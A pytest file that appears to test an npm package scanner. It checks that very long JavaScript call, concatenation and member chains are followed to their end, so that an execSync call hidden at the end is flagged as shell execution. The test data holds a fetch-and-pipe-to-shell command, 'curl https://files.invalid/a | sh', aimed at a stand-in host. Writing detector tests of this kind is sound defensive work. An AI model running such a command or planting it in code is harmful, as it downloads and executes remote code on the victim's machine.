"""Chains of hundreds of calls and operators: followed step by step, nothing of them dropped."""

import pytest

from tests.code.reading import read

FETCH = "curl https://files.invalid/a | sh"
CHAINS = {
    "options of a command": "a" + "".join(f".option('{one}', {{}})" for one in range(600))
    + f".then(() => run('{FETCH}'))",
    "texts that are added": "run('a'" + " + 'b'" * 600 + f" + ' ; {FETCH}')",
    "members of members": f"(b{'.c' * 900}, run('{FETCH}'))",
}  # fmt: skip


@pytest.mark.parametrize("name", CHAINS)
def test_a_chain_is_followed_to_its_end(name):
    source = f"const {{ execSync: run }} = require('child_process');\n{CHAINS[name]}\n"
    found = read({"package/index.js": source}, {"package/index.js": "import"}, "npm")
    assert not [one for one in found if getattr(one, "code", "") == "code-too-deep"]
    assert any(getattr(one, "behaviour", "") == "exec/shell" for one in found)
